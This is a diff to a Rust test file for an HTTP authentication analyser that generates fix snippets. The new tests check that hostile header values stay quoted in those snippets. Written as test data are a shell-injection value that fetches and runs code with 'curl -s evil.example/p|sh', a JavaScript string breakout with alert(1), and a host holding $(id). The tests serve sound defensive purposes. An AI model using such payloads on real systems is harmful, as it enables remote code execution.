@@ -27,10 +27,9 @@ fn run(cap: &Capture<'_>) -> (Vec<Finding>, CredentialState) {
     let corr = Correlation::build(cap);
     let ex = cap.exchanges.first().unwrap();
     let ctx = Ctx::new(cap, &corr, 0, ex);
-    let facts = CredentialFacts::new(&ctx);
     let mut out = Vec::new();
-    check(&ctx, &facts, &mut out);
-    (out, facts.state)
+    check(&ctx, &mut out);
+    (out, CredentialFacts::new(&ctx).state)
 }
 
 #[test]
@@ -79,13 +78,12 @@ fn credential_state_table() {
 }
 
 #[test]
-fn proxy_challenges_are_parsed_once_into_the_facts() {
+fn proxy_challenges_are_parsed_once_into_the_context() {
     let cap =
         capture(407, vec![], vec![("Proxy-Authenticate", "Basic realm=\"corp\""), ("WWW-Authenticate", "Bearer")]);
     let corr = Correlation::build(&cap);
     let ctx = Ctx::new(&cap, &corr, 0, &cap.exchanges[0]);
-    let facts = CredentialFacts::new(&ctx);
-    assert_eq!(facts.proxy_challenges.challenges.iter().map(|c| c.scheme).collect::<Vec<_>>(), ["Basic"]);
+    assert_eq!(ctx.proxy_challenges.challenges.iter().map(|c| c.scheme).collect::<Vec<_>>(), ["Basic"]);
     assert!(run(&cap).0.iter().any(|f| f.id == FindingId::ProxyAuthRequired));
 }
 
@@ -123,4 +121,58 @@ fn hostile_exchanges_do_not_panic() {
             let _ = run(&cap);
         }
     }
+}
+
+/// Issue 8: the payload of the issue, in `resource_metadata`, stays one single-quoted shell word.
+#[test]
+fn hostile_resource_metadata_stays_one_shell_word() {
+    let cap = capture(
+        401,
+        vec![],
+        vec![("WWW-Authenticate", "Bearer resource_metadata=\"x'; curl -s evil.example/p|sh; echo '\"")],
+    );
+    let (findings, _) = run(&cap);
+    let f = findings.iter().find(|f| f.id == FindingId::ResourceMetadataAdvertised).expect("found");
+    assert_eq!(
+        f.fix.snippets[0].code,
+        r#"curl -s 'x'\''; curl -s evil.example/p|sh; echo '\''' | jq '{authorization_servers, scopes_supported, resource}'"#
+    );
+}
+
+/// Issue 8: a required scope cannot close the JS string it is written into.
+#[test]
+fn hostile_scope_stays_one_js_string() {
+    let cap = capture(
+        403,
+        vec![("Authorization", "Bearer abc.def")],
+        vec![("WWW-Authenticate", "Bearer error=\"insufficient_scope\", scope=\"a'});alert(1);//\\\"\"")],
+    );
+    let (findings, _) = run(&cap);
+    let f = findings.iter().find(|f| f.id == FindingId::BearerInsufficientScope).expect("found");
+    let code = &f.fix.snippets[0].code;
+    assert_eq!(code, r#"auth.loginWithRedirect({ scope: "openid a'});alert(1);//\"" });"#);
+}
+
+/// Issue 8: a host with shell and JSON metacharacters (a URL host may hold them) stays quoted.
+#[test]
+fn hostile_host_stays_quoted_in_negotiate_snippets() {
+    let mut cap = capture(401, vec![], vec![("WWW-Authenticate", "Negotiate")]);
+    cap.exchanges[0].url = Cow::Borrowed("https://a'$(id)\"x.corp/");
+    let (findings, _) = run(&cap);
+    let f = findings.iter().find(|f| f.id == FindingId::NegotiateNotAttempted).expect("found");
+    let code = |lang: &str| f.fix.snippets.iter().find(|s| s.lang == lang).map(|s| s.code.as_str()).unwrap_or("");
+    assert_eq!(code("shell"), r#"setspn -S 'HTTP/a'\''$(id)"x.corp' svc-account"#);
+    assert!(code("json").starts_with(r#"{ "AuthServerAllowlist": "a'$(id)\"x.corp" }"#), "{}", code("json"));
+}
+
+/// The key headers are read once, into the context: the rules' first non-blank key and the
+/// views' full list come from the same scan.
+#[test]
+fn key_headers_are_read_once_into_the_context() {
+    let cap = capture(401, vec![("X-API-Key", " "), ("Api-Key", "k1"), ("Accept", "*/*")], vec![]);
+    let corr = Correlation::build(&cap);
+    let ctx = Ctx::new(&cap, &corr, 0, &cap.exchanges[0]);
+    assert_eq!(ctx.api_keys.iter().map(|k| k.name).collect::<Vec<_>>(), ["X-API-Key", "Api-Key"]);
+    assert_eq!(ctx.creds.api_key_header.as_deref(), Some("api-key"));
+    assert_eq!(CredentialFacts::new(&ctx).api_keys, ctx.api_keys);
 }
